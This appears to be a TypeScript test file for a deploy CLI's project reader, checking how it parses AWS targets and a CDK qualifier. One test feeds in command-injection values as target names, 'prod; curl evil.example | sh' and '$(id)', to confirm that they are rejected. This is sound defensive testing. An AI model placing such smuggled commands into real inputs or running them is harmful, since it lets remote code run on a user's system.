// The new CLI's project beside its files: aws-targets.json and cdk/cdk.json are optional and read
// only as far as the CLI's own rules allow, since their values reach the next-step command.
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { readProject } from '../../src/deployTools/agentcoreCli/projectFile.ts'
import { projectSpec } from '../../test-support/agentcoreCli.ts'

let workspace: string
beforeEach(() => {
  workspace = mkdtempSync(join(tmpdir(), 'project-file-'))
  mkdirSync(join(workspace, 'agentcore', 'cdk'), { recursive: true })
  writeFileSync(
    join(workspace, 'agentcore', 'agentcore.json'),
    projectSpec([{ name: 'agent', build: 'CodeZip' }])
  )
})
afterEach(() => rmSync(workspace, { recursive: true, force: true }))
const write = (path: string, text: string) =>
  writeFileSync(join(workspace, 'agentcore', path), text)
const read = () => readProject('agentcore/agentcore.json', workspace)

describe('readProject', () => {
  it('reads the project, its targets and its CDK qualifier', async () => {
    write(
      'aws-targets.json',
      JSON.stringify([{ name: 'prod', account: '111122223333', region: 'us-east-1' }])
    )
    write(
      'cdk/cdk.json',
      JSON.stringify({ context: { '@aws-cdk/core:bootstrapQualifier': 'team1' } })
    )
    expect(await read()).toEqual({
      name: 'Demo',
      runtimes: [{ name: 'agent', build: 'CodeZip' }],
      targets: [{ name: 'prod', account: '111122223333', region: 'us-east-1' }],
      cdkQualifier: 'team1'
    })
  })

  it('keeps no target or qualifier the CLI itself would refuse', async () => {
    write(
      'aws-targets.json',
      JSON.stringify([
        { name: 'prod; curl evil.example | sh', account: '111122223333', region: 'us-east-1' },
        { name: '$(id)', account: '111122223333', region: 'us-east-1' }
      ])
    )
    write(
      'cdk/cdk.json',
      JSON.stringify({ context: { '@aws-cdk/core:bootstrapQualifier': 'a b' } })
    )
    const project = await read()
    expect(project.targets).toEqual([])
    expect(project.cdkQualifier).toBeUndefined()
  })

  it('takes unreadable side files as absent', async () => {
    write('aws-targets.json', '{ not json')
    write('cdk/cdk.json', '[]')
    const project = await read()
    expect(project.targets).toEqual([])
    expect(project.cdkQualifier).toBeUndefined()
  })
})
